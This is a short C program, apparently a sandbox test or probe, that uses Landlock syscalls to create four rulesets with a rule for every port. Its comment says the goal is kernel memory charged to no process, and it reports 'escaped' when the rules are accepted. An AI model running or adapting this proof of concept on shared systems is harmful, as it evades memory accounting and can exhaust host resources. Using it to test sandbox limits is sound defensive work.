/* has the kernel keep a rule for each port, in memory that is on no process's account */
#define _GNU_SOURCE
#include <stdint.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { CREATE_RULESET = 444, ADD_RULE = 445, OF_A_PORT = 2, BIND_AND_CONNECT = 3, RULESETS = 4 };

int main(void)
{
    int phase = 0;
    if (scanf("%d", &phase) != 1)
        return 9;
    alarm(8);
    struct { uint64_t files, ports; } handled = {0, BIND_AND_CONNECT};
    long rules = 0;
    for (int i = 0; i < RULESETS; i++) {
        int ruleset = syscall(CREATE_RULESET, &handled, sizeof handled, 0);
        for (uint64_t port = 0; ruleset >= 0 && port < 65536; port++) {
            struct { uint64_t allowed, port; } rule = {BIND_AND_CONNECT, port};
            rules += syscall(ADD_RULE, ruleset, OF_A_PORT, &rule, 0) == 0;
        }
    }
    if (rules > 0)
        printf("escaped: %ld rules\n", rules);
    else
        puts("ok");
    return 0;
}
